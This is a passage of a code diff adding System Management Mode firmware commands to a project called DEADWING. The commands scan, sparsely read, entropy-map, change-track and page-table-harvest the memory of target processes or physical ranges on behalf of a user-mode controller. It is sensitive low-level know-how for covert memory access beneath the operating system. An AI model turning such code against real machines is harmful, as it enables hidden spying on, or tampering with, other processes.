+
+			Data = (UINT8 *)CmdMapAddress(Address, Work->DirBase, Cpu);
+			if(Data == NULL) {
+				Offset += DataLength;
+				continue;
+			}
+		}
+
+		// matches which lie entirely in this page
+		UINTN Limit = (UINTN)MIN(DataLength, End - Offset);
+		for(UINTN Pos = 0; (Pos = ScanBlock(Work->Matcher, Data, DataLength, Pos, Limit, 0, Address, Collected, &Count, Capacity)) < Limit;) {
+			CmdRestoreMapping(Cpu);
+
+			Status = CmdScanFlush(Cpu, Work, &Count);
+			if(EFI_ERROR(Status))
+				return Status;
+
+			Data = (UINT8 *)CmdMapAddress(Address, Work->DirBase, Cpu);
+			if(Data == NULL)
+				return EFI_ABORTED;
+		}
+
+		// keep tail for matches crossing the boundary. Tail which starts at or after End
+		// belongs to the next slice (End falls mid-page if the address isn't page-aligned)
+		TailLength = MIN(DataLength, MaxTail);
+		TailOffset = Offset + DataLength - TailLength;
+		if(TailOffset >= End)
+			TailLength = 0;
+
+		CopyMem(Stitch, Data + DataLength - TailLength, TailLength);
+
+		CmdRestoreMapping(Cpu);
+
+		Offset += DataLength;
+	}
+
+	return CmdScanFlush(Cpu, Work, &Count);
+}
+
+/**
+ * \brief Scans physical or virtual range for byte patterns with wildcard masks.
+ * 
+ * Request (DEADWING_SCAN_REQUEST) lives in the controller memory. Range is scanned in 
+ * place, page by page, and split across all available CPUs. Only addresses of matches 
+ * and indices of matched patterns are written to the controller buffer, matches are not
+ * sorted. Command is resumable: Cursor keeps offset of the next position, State[0] - count
+ * of found matches. Once the buffer overflows, scan stops and Truncated is set
+ * 
+ * \param Request    Controller address of the request
+ * \param Matches    Controller address of the matches buffer
+ * \param MaxMatches Capacity of the matches buffer
+ * \param Cursor     Resume cursor
+ * \param State      Resume state
+ * \param MatchCount Count of matches written to the buffer
+ * \param Truncated  Set if some matches don't fit the buffer
+ * 
+ * \return EFI_SUCCESS - Range has been scanned
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments or patterns are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to translate or map address
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdScan(
+	IN     VOID   *Request,
+	IN     VOID   *Matches,
+	IN     UINT64  MaxMatches,
+	IN OUT UINT64 *Cursor,
+	IN OUT UINT64 *State,
+	OUT    UINT64 *MatchCount,
+	OUT    UINT64 *Truncated
+) {
+	if(!Request || !Matches || !MaxMatches) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to scan command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &gScanRequest, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_SCAN_REQUEST));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read scan request\r\n");
+		return Status;
+	}
+
+	if(!gScanRequest.Address || !gScanRequest.Length || gScanRequest.Address + gScanRequest.Length < gScanRequest.Address || *Cursor >= gScanRequest.Length) {
+		LOG_ERROR("[ SMM ] Invalid scan range\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!ScanCompile(&gScanMatcher, gScanRequest.Patterns, gScanRequest.PatternCount)) {
+		LOG_ERROR("[ SMM ] Invalid scan patterns\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	DEADWING_SCAN_WORK Work;
+	Work.Matcher = &gScanMatcher;
+	Work.Address = gScanRequest.Address;
+	Work.Length = gScanRequest.Length;
+	Work.Matches = (UINT64)Matches;
+	Work.MaxMatches = MaxMatches;
+	Work.Found = State[0];
+
+	// PID 0 means physical range
+	Work.DirBase = 0;
+	if(gScanRequest.ProcessId != 0) {
+		Status = CmdGetTargetDirBase(gScanRequest.ProcessId, &Work.DirBase);
+		if(EFI_ERROR(Status))
+			return Status;
+	}
+
+	UINT64 Batch = MpGetBatchLength();
+	UINT64 Offset = *Cursor;
+
+	Status = EFI_SUCCESS;
+	while(Offset < Work.Length && Work.Found <= MaxMatches) {
+		// check budget only after the first batch to guarantee forward progress
+		if(Offset != *Cursor && YieldBudgetExhausted()) {
+			Status = EFI_NOT_READY;
+			break;
+		}
+
+		UINT64 Chunk = MIN(Work.Length - Offset, Batch);
+
+		Status = MpDispatch(CmdScanWorker, &Work, Offset, Chunk, EFI_PAGE_SIZE);
+		if(EFI_ERROR(Status))
+			break;
+
+		Offset += Chunk;
+	}
+
+	// save progress
+	*Cursor = Offset;
+	State[0] = Work.Found;
+
+	*MatchCount = MIN(Work.Found, MaxMatches);
+	*Truncated = Work.Found > MaxMatches;
+
+	return Status;
+}
+
+/**
+ * \brief Checks if page is filled with zeros
+ * 
+ * \param Page Mapped page
+ * 
+ * \return TRUE if page is zero-filled
+ */
+BOOLEAN
+EFIAPI
+CmdIsZeroPage(
+	IN CONST VOID *Page
+) {
+	CONST UINT64 *Words = (CONST UINT64 *)Page;
+
+	// data pages usually fail on the first words
+	for(UINTN i = 0; i < EFI_PAGE_SIZE / sizeof(UINT64); i += 8) {
+		if((Words[i] | Words[i + 1] | Words[i + 2] | Words[i + 3] | Words[i + 4] | Words[i + 5] | Words[i + 6] | Words[i + 7]) != 0)
+			return FALSE;
+	}
+
+	return TRUE;
+}
+
+/**
+ * \brief Classifies pages [Start, End) of the batch, runs on any CPU
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Sparse read work
+ * \param Start   Index of the first page
+ * \param End     Index after the last page
+ * 
+ * \return EFI_SUCCESS - Pages have been classified
+ */
+EFI_STATUS
+EFIAPI
+CmdSparseClassifyWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_SPARSE_WORK *Work = (DEADWING_SPARSE_WORK *)Context;
+
+	for(UINT64 Page = Start; Page < End; Page++) {
+		UINT8 *State = &gSparseState[Page - Work->BatchStart];
+
+		UINT64 Mapped = CmdMapAddress(Work->Address + Page * EFI_PAGE_SIZE, Work->DirBase, Cpu);
+		if(Mapped == 0) {
+			*State = DEADWING_SPARSE_PAGE_ABSENT;
+			continue;
+		}
+
+		*State = CmdIsZeroPage((VOID *)Mapped) ? DEADWING_SPARSE_PAGE_ZERO : DEADWING_SPARSE_PAGE_DATA;
+
+		CmdRestoreMapping(Cpu);
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Copies data pages [Start, End) of the batch to their packed slots, runs on any CPU
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Sparse read work
+ * \param Start   Index of the first page
+ * \param End     Index after the last page
+ * 
+ * \return EFI_SUCCESS - Pages have been copied
+ * \return EFI_ABORTED - Unable to translate or map address
+ */
+EFI_STATUS
+EFIAPI
+CmdSparseCopyWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_SPARSE_WORK *Work = (DEADWING_SPARSE_WORK *)Context;
+
+	for(UINT64 Page = Start; Page < End; Page++) {
+		if(gSparseState[Page - Work->BatchStart] != DEADWING_SPARSE_PAGE_DATA)
+			continue;
+
+		UINT64 Dest = Work->Data + (UINT64)gSparseIndex[Page - Work->BatchStart] * EFI_PAGE_SIZE;
+
+		EFI_STATUS Status = CmdCopyChunk(Cpu, Dest, gLiveSession.UmController.UmControllerDirBase, Work->Address + Page * EFI_PAGE_SIZE, Work->DirBase, EFI_PAGE_SIZE);
+		if(EFI_ERROR(Status))
+			return Status;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Reads physical or virtual range, eliding all-zero and non-present pages.
+ * 
+ * Request (DEADWING_SPARSE_REQUEST) lives in the controller memory. State of every page
+ * (absent, zero or data) is written to the bitmap, 2 bits per page, and only data pages
+ * are packed one after another into the data buffer. Every batch is classified and copied
+ * on all available CPUs. Command is resumable: Cursor keeps index of the next page,
+ * State[0] - count of data pages written so far
+ * 
+ * \param Request   Controller address of the request
+ * \param Cursor    Resume cursor
+ * \param State     Resume state
+ * \param DataPages Count of data pages written to the data buffer
+ * 
+ * \return EFI_SUCCESS - Range has been read
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_BUFFER_TOO_SMALL - Data pages don't fit the data buffer
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to translate or map address
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdSparseRead(
+	IN     VOID   *Request,
+	IN OUT UINT64 *Cursor,
+	IN OUT UINT64 *State,
+	OUT    UINT64 *DataPages
+) {
+	if(!Request) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to sparse read command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	DEADWING_SPARSE_REQUEST Sparse;
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &Sparse, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_SPARSE_REQUEST));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read sparse read request\r\n");
+		return Status;
+	}
+
+	// range should be page aligned, bitmap is written by whole bytes
+	UINT64 Pages = Sparse.Length >> EFI_PAGE_SHIFT;
+	if(!Sparse.Address || !Sparse.Bitmap || !Sparse.Data || !Pages || ((Sparse.Address | Sparse.Length) & EFI_PAGE_MASK) != 0 || Sparse.Address + Sparse.Length < Sparse.Address || *Cursor >= Pages || (*Cursor & 3) != 0) {
+		LOG_ERROR("[ SMM ] Invalid sparse read range\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	DEADWING_SPARSE_WORK Work;
+	Work.Address = Sparse.Address;
+	Work.Data = Sparse.Data;
+
+	// PID 0 means physical range
+	Work.DirBase = 0;
+	if(Sparse.ProcessId != 0) {
+		Status = CmdGetTargetDirBase(Sparse.ProcessId, &Work.DirBase);
+		if(EFI_ERROR(Status))
+			return Status;
+	}
+
+	// batch is a multiple of 4 pages, so every batch starts on the bitmap byte boundary
+	UINT64 BatchPages = MpGetBatchLength() / EFI_PAGE_SIZE;
+	BOOLEAN Progressed = FALSE;
+
+	while(*Cursor < Pages) {
+		if(Progressed && YieldBudgetExhausted()) {
+			*DataPages = State[0];
+			return EFI_NOT_READY;
+		}
+
+		UINT64 Batch = MIN(Pages - *Cursor, BatchPages);
+		Work.BatchStart = *Cursor;
+
+		Status = MpDispatch(CmdSparseClassifyWorker, &Work, *Cursor, Batch, 1);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		// assign packed slots to data pages and build bitmap of the batch
+		UINT8 *Bitmap = (UINT8 *)Cpu->Bounce;
+		ZeroMem(Bitmap, (UINTN)((Batch + 3) / 4));
+
+		UINT64 Packed = State[0];
+		for(UINT64 i = 0; i < Batch; i++) {
+			Bitmap[i / 4] |= (UINT8)(gSparseState[i] << ((i % 4) * 2));
+			if(gSparseState[i] == DEADWING_SPARSE_PAGE_DATA)
+				gSparseIndex[i] = (UINT32)(Packed++ - State[0]);
+		}
+
+		if(Packed * EFI_PAGE_SIZE > Sparse.DataLength) {
+			LOG_ERROR("[ SMM ] Sparse read data buffer is too small\r\n");
+			return EFI_BUFFER_TOO_SMALL;
+		}
+
+		Status = CmdWriteToAddress(Cpu, Sparse.Bitmap + *Cursor / 4, gLiveSession.UmController.UmControllerDirBase, Bitmap, (Batch + 3) / 4);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		if(Packed != State[0]) {
+			Work.Data = Sparse.Data + State[0] * EFI_PAGE_SIZE;
+
+			Status = MpDispatch(CmdSparseCopyWorker, &Work, *Cursor, Batch, 1);
+			if(EFI_ERROR(Status))
+				return Status;
+		}
+
+		*Cursor += Batch;
+		State[0] = Packed;
+		Progressed = TRUE;
+	}
+
+	*DataPages = State[0];
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Classifies pages [Start, End) of the batch by their content, runs on any CPU
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Entropy map work
+ * \param Start   Index of the first page
+ * \param End     Index after the last page
+ * 
+ * \return EFI_SUCCESS - Pages have been classified
+ */
+EFI_STATUS
+EFIAPI
+CmdEntropyWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_ENTROPY_WORK *Work = (DEADWING_ENTROPY_WORK *)Context;
+
+	for(UINT64 Page = Start; Page < End; Page++) {
+		UINT8 *Entry = &gEntropyMap[Page - Work->BatchStart];
+
+		UINT64 Mapped = CmdMapAddress(Work->Address + Page * EFI_PAGE_SIZE, Work->DirBase, Cpu);
+		if(Mapped == 0) {
+			*Entry = DEADWING_PAGE_CLASS_ABSENT << DEADWING_PAGE_CLASS_SHIFT;
+			continue;
+		}
+
+		*Entry = EntropyClassifyPage((VOID *)Mapped);
+
+		CmdRestoreMapping(Cpu);
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Builds entropy and content class map of physical or virtual range.
+ * 
+ * Request (DEADWING_ENTROPY_REQUEST) lives in the controller memory. Every page of the range
+ * is described by one byte of the map: class (zero, ASCII, UTF-16, code, high entropy, other
+ * data or absent) and Shannon entropy estimate. Every batch is classified on all available CPUs.
+ * Command is resumable: Cursor keeps index of the next page
+ * 
+ * \param Request Controller address of the request
+ * \param Cursor  Resume cursor
+ * 
+ * \return EFI_SUCCESS - Map has been built
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to write map
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdEntropyMap(
+	IN     VOID   *Request,
+	IN OUT UINT64 *Cursor
+) {
+	if(!Request) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to entropy map command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	DEADWING_ENTROPY_REQUEST Entropy;
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &Entropy, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_ENTROPY_REQUEST));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read entropy map request\r\n");
+		return Status;
+	}
+
+	// range should be page aligned
+	UINT64 Pages = Entropy.Length >> EFI_PAGE_SHIFT;
+	if(!Entropy.Address || !Entropy.Map || !Pages || ((Entropy.Address | Entropy.Length) & EFI_PAGE_MASK) != 0 || Entropy.Address + Entropy.Length < Entropy.Address || *Cursor >= Pages) {
+		LOG_ERROR("[ SMM ] Invalid entropy map range\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	DEADWING_ENTROPY_WORK Work;
+	Work.Address = Entropy.Address;
+
+	// PID 0 means physical range
+	Work.DirBase = 0;
+	if(Entropy.ProcessId != 0) {
+		Status = CmdGetTargetDirBase(Entropy.ProcessId, &Work.DirBase);
+		if(EFI_ERROR(Status))
+			return Status;
+	}
+
+	UINT64 BatchPages = MpGetBatchLength() / EFI_PAGE_SIZE;
+	BOOLEAN Progressed = FALSE;
+
+	while(*Cursor < Pages) {
+		if(Progressed && YieldBudgetExhausted())
+			return EFI_NOT_READY;
+
+		UINT64 Batch = MIN(Pages - *Cursor, BatchPages);
+		Work.BatchStart = *Cursor;
+
+		Status = MpDispatch(CmdEntropyWorker, &Work, *Cursor, Batch, 1);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		Status = CmdWriteToAddress(Cpu, Entropy.Map + *Cursor, gLiveSession.UmController.UmControllerDirBase, gEntropyMap, Batch);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		*Cursor += Batch;
+		Progressed = TRUE;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Returns part of the tracked region which lies on the page
+ * 
+ * \param Region Tracked region
+ * \param Page   Index of the page in the region
+ * \param Start  Start of the chunk
+ * \param Length Length of the chunk
+ */
+VOID
+EFIAPI
+CmdTrackGetChunk(
+	IN  PDEADWING_TRACK_REGION  Region,
+	IN  UINT64                  Page,
+	OUT UINT64                 *Start,
+	OUT UINT64                 *Length
+) {
+	UINT64 FirstPage = Region->Address & ~(UINT64)EFI_PAGE_MASK;
+
+	*Start = MAX(FirstPage + Page * EFI_PAGE_SIZE, Region->Address);
+	*Length = MIN(FirstPage + (Page + 1) * EFI_PAGE_SIZE, Region->Address + Region->Length) - *Start;
+}
+
+/**
+ * \brief Calculates digest of the chunk, 0 is reserved for pages which are not present
+ * 
+ * \param Data   Chunk data
+ * \param Length Length of the chunk
+ * 
+ * \returns Digest of the chunk
+ */
+UINT64
+EFIAPI
+CmdTrackDigest(
+	IN CONST VOID *Data,
+	IN UINTN       Length
+) {
+	UINT64 Digest;
+	HashDigest(DEADWING_HASH_XXH64, Data, Length, (UINT8 *)&Digest);
+
+	return (Digest != 0) ? Digest : 1;
+}
+
+/**
+ * \brief Records baseline digests of pages [Start, End) of the region, runs on any CPU
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Track work
+ * \param Start   Index of the first page
+ * \param End     Index after the last page
+ * 
+ * \return EFI_SUCCESS - Baseline has been recorded
+ */
+EFI_STATUS
+EFIAPI
+CmdTrackBaselineWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_TRACK_WORK *Work = (DEADWING_TRACK_WORK *)Context;
+
+	for(UINT64 Page = Start; Page < End; Page++) {
+		UINT64 ChunkStart, ChunkLength;
+		CmdTrackGetChunk(Work->Region, Page, &ChunkStart, &ChunkLength);
+
+		UINT64 Mapped = CmdMapAddress(ChunkStart, Work->DirBase, Cpu);
+		if(Mapped == 0) {
+			Work->Digests[Page] = 0;
+			continue;
+		}
+
+		Work->Digests[Page] = CmdTrackDigest((VOID *)Mapped, (UINTN)ChunkLength);
+
+		CmdRestoreMapping(Cpu);
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Reports pages [Start, End) of the region which have changed, runs on any CPU.
+ * 
+ * Slots in the controller buffers are reserved atomically. Baseline of the page is updated
+ * only when the change is reported, so changes which don't fit the buffer are reported next time
+ * 
+ * \param Cpu     Remap window and bounce page of the current CPU
+ * \param Context Track work
+ * \param Start   Index of the first page
+ * \param End     Index after the last page
+ * 
+ * \return EFI_SUCCESS - Pages have been compared
+ * \return EFI_ABORTED - Unable to translate or map controller buffers
+ */
+EFI_STATUS
+EFIAPI
+CmdTrackChangesWorker(
+	IN PDEADWING_MP_CPU  Cpu,
+	IN VOID             *Context,
+	IN UINT64            Start,
+	IN UINT64            End
+) {
+	DEADWING_TRACK_WORK *Work = (DEADWING_TRACK_WORK *)Context;
+
+	EFI_STATUS Status;
+	for(UINT64 Page = Start; Page < End; Page++) {
+		// stop early if the buffer is already full
+		if(Work->Found > Work->MaxChanges)
+			break;
+
+		UINT64 ChunkStart, ChunkLength;
+		CmdTrackGetChunk(Work->Region, Page, &ChunkStart, &ChunkLength);
+
+		// hash in place, unchanged pages are not copied at all
+		UINT64 Digest = 0;
+		UINT64 Mapped = CmdMapAddress(ChunkStart, Work->DirBase, Cpu);
+		if(Mapped != 0) {
+			Digest = CmdTrackDigest((VOID *)Mapped, (UINTN)ChunkLength);
+
+			CmdRestoreMapping(Cpu);
+		}
+
+		if(Digest == Work->Digests[Page])
+			continue;
+
+		UINT64 Index;
+		do {
+			Index = Work->Found;
+		} while(InterlockedCompareExchange64(&Work->Found, Index, Index + 1) != Index);
+
+		if(Index >= Work->MaxChanges)
+			continue;
+
+		// copy new contents through the bounce page, so baseline matches returned data
+		if(Work->Data != 0 && Digest != 0) {
+			Status = CmdReadFromAddress(Cpu, (VOID *)Cpu->Bounce, ChunkStart, Work->DirBase, ChunkLength);
+			if(EFI_ERROR(Status)) {
+				Digest = 0;
+			} else {
+				Digest = CmdTrackDigest((VOID *)Cpu->Bounce, (UINTN)ChunkLength);
+
+				Status = CmdWriteToAddress(Cpu, Work->Data + Index * EFI_PAGE_SIZE, gLiveSession.UmController.UmControllerDirBase, (VOID *)Cpu->Bounce, ChunkLength);
+				if(EFI_ERROR(Status))
+					return Status;
+			}
+		}
+
+		DEADWING_TRACK_CHANGE Change;
+		Change.Address = ChunkStart;
+		Change.Length = (UINT32)ChunkLength;
+		Change.Present = (Digest != 0);
+
+		Status = CmdWriteToAddress(Cpu, Work->Changes + Index * sizeof(DEADWING_TRACK_CHANGE), gLiveSession.UmController.UmControllerDirBase, &Change, sizeof(DEADWING_TRACK_CHANGE));
+		if(EFI_ERROR(Status))
+			return Status;
+
+		Work->Digests[Page] = Digest;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Records per-page hash baseline of the physical or virtual range in SMRAM.
+ * 
+ * Baseline of the same range is replaced. Pages are hashed on all available CPUs.
+ * Command is resumable: Cursor keeps index of the next page, State[0] - handle of the region
+ * 
+ * \param ProcessId Target process ID or 0, if range is physical
+ * \param Address   Start of the range
+ * \param Length    Length of the range
+ * \param Cursor    Resume cursor
+ * \param State     Resume state
+ * \param Handle    Handle of the tracked region
+ * 
+ * \return EFI_SUCCESS - Baseline has been recorded
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_BUFFER_TOO_SMALL - Range doesn't fit the tracking table
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_NOT_FOUND - Cannot find dir base or region has been evicted
+ */
+EFI_STATUS
+EFIAPI
+CmdTrackRegion(
+	IN     UINT64  ProcessId,
+	IN     VOID   *Address,
+	IN     UINT64  Length,
+	IN OUT UINT64 *Cursor,
+	IN OUT UINT64 *State,
+	OUT    UINT64 *Handle
+) {
+	if(!Address || !Length || (UINT64)Address + Length < (UINT64)Address) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to track command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	DEADWING_TRACK_WORK Work;
+	ZeroMem(&Work, sizeof(DEADWING_TRACK_WORK));
+
+	// PID 0 means physical range
+	if(ProcessId != 0) {
+		EFI_STATUS Status = CmdGetTargetDirBase(ProcessId, &Work.DirBase);
+		if(EFI_ERROR(Status))
+			return Status;
+	}
+
+	// region is allocated by the first SMI, the following ones only continue
+	EFI_STATUS Status;
+	if(*Cursor == 0) {
+		Status = TrackAllocate(ProcessId, (UINT64)Address, Length, &Work.Region);
+		if(EFI_ERROR(Status)) {
+			LOG_ERROR("[ SMM ] Unable to allocate tracked region\r\n");
+			return Status;
+		}
+
+		State[0] = Work.Region->Handle;
+	} else {
+		Work.Region = TrackLookup(State[0]);
+		if(Work.Region == NULL || *Cursor >= Work.Region->Pages)
+			return EFI_NOT_FOUND;
+	}
+
+	Work.Digests = TrackGetDigests(Work.Region);
+
+	UINT64 BatchPages = MpGetBatchLength() / EFI_PAGE_SIZE;
+	BOOLEAN Progressed = FALSE;
+
+	while(*Cursor < Work.Region->Pages) {
+		if(Progressed && YieldBudgetExhausted())
+			return EFI_NOT_READY;
+
+		UINT64 Batch = MIN(Work.Region->Pages - *Cursor, BatchPages);
+
+		Status = MpDispatch(CmdTrackBaselineWorker, &Work, *Cursor, Batch, 1);
+		if(EFI_ERROR(Status)) {
+			TrackRelease(Work.Region);
+			return Status;
+		}
+
+		*Cursor += Batch;
+		Progressed = TRUE;
+	}
+
+	Work.Region->Ready = TRUE;
+	*Handle = Work.Region->Handle;
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Reports pages of the tracked region which have changed since the last call.
+ * 
+ * Request (DEADWING_TRACK_CHANGES_REQUEST) lives in the controller memory. Addresses of
+ * changed pages are written to the changes buffer, new contents of the page - to the data
+ * buffer (optional) at the same index, 4096 bytes per change. Baseline is updated for every
+ * reported page, changes are not sorted. Command is resumable: Cursor keeps index of the
+ * next page, State[0] - count of found changes
+ * 
+ * \param Request     Controller address of the request
+ * \param Cursor      Resume cursor
+ * \param State       Resume state
+ * \param ChangeCount Count of changes written to the buffer
+ * \param Truncated   Set if some changes don't fit the buffer
+ * 
+ * \return EFI_SUCCESS - Region has been compared with its baseline
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_NOT_FOUND - Region has been evicted or its baseline is not recorded
+ * \return EFI_ABORTED - Unable to translate or map address
+ */
+EFI_STATUS
+EFIAPI
+CmdChangesSince(
+	IN     VOID   *Request,
+	IN OUT UINT64 *Cursor,
+	IN OUT UINT64 *State,
+	OUT    UINT64 *ChangeCount,
+	OUT    UINT64 *Truncated
+) {
+	if(!Request) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to changes command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	DEADWING_TRACK_CHANGES_REQUEST Changes;
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &Changes, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_TRACK_CHANGES_REQUEST));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read changes request\r\n");
+		return Status;
+	}
+
+	if(!Changes.Changes || !Changes.MaxChanges) {
+		LOG_ERROR("[ SMM ] Invalid changes buffer\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	DEADWING_TRACK_WORK Work;
+	Work.Region = TrackLookup(Changes.Handle);
+	if(Work.Region == NULL || !Work.Region->Ready) {
+		LOG_ERROR("[ SMM ] Tracked region is not found\r\n");
+		return EFI_NOT_FOUND;
+	}
+
+	if(*Cursor >= Work.Region->Pages)
+		return EFI_INVALID_PARAMETER;
+
+	Work.Digests = TrackGetDigests(Work.Region);
+	Work.Changes = Changes.Changes;
+	Work.Data = Changes.Data;
+	Work.MaxChanges = Changes.MaxChanges;
+	Work.Found = State[0];
+
+	Work.DirBase = 0;
+	if(Work.Region->ProcessId != 0) {
+		Status = CmdGetTargetDirBase(Work.Region->ProcessId, &Work.DirBase);
+		if(EFI_ERROR(Status))
+			return Status;
+	}
+
+	UINT64 BatchPages = MpGetBatchLength() / EFI_PAGE_SIZE;
+	BOOLEAN Progressed = FALSE;
+
+	Status = EFI_SUCCESS;
+	while(*Cursor < Work.Region->Pages && Work.Found <= Work.MaxChanges) {
+		if(Progressed && YieldBudgetExhausted()) {
+			Status = EFI_NOT_READY;
+			break;
+		}
+
+		UINT64 Batch = MIN(Work.Region->Pages - *Cursor, BatchPages);
+
+		Status = MpDispatch(CmdTrackChangesWorker, &Work, *Cursor, Batch, 1);
+		if(EFI_ERROR(Status))
+			break;
+
+		*Cursor += Batch;
+		Progressed = TRUE;
+	}
+
+	State[0] = Work.Found;
+
+	*ChangeCount = MIN(Work.Found, Work.MaxChanges);
+	*Truncated = Work.Found > Work.MaxChanges;
+
+	return Status;
+}
+
+/**
+ * \brief Collects leaf entry with accessed/dirty bit and clears it if requested
+ * 
+ * \param Context        Harvest work
+ * \param VirtualAddress Virtual address mapped by the entry
+ * \param PageSize       Size of the page mapped by the entry
+ * \param Entry          Mapped leaf entry
+ * 
+ * \return TRUE if entry has been processed, FALSE if collected pages should be flushed first
+ */
+BOOLEAN
+EFIAPI
+CmdHarvestCallback(
+	IN VOID   *Context,
+	IN UINT64  VirtualAddress,
+	IN UINT64  PageSize,
+	IN UINT64 *Entry
+) {
+	DEADWING_HARVEST_WORK *Work = (DEADWING_HARVEST_WORK *)Context;
+
+	UINT64 Bits = *(volatile UINT64 *)Entry & Work->Mask;
+	if(Bits == 0)
+		return TRUE;
+
+	if(Work->Found >= Work->MaxPages) {
+		Work->Full = TRUE;
+		return FALSE;
+	}
+
+	if(Work->Count == Work->Capacity)
+		return FALSE;
+
+	// bits may be set by other CPUs at any moment, don't lose them
+	if(Work->Clear) {
+		UINT64 Old;
+		do {
+			Old = *(volatile UINT64 *)Entry;
+		} while(InterlockedCompareExchange64(Entry, Old, Old & ~Work->Mask) != Old);
+
+		Bits = Old & Work->Mask;
+		Work->Cleared++;
+	}
+
+	PDEADWING_HARVEST_PAGE Page = &Work->Collected[Work->Count++];
+	Page->Address = VirtualAddress;
+	Page->PageSize = (UINT32)PageSize;
+	Page->Flags = ((Bits & PAGE_ENTRY_ACCESSED) ? DEADWING_HARVEST_ACCESSED : 0) | ((Bits & PAGE_ENTRY_DIRTY) ? DEADWING_HARVEST_DIRTY : 0);
+
+	Work->Found++;
+
+	return TRUE;
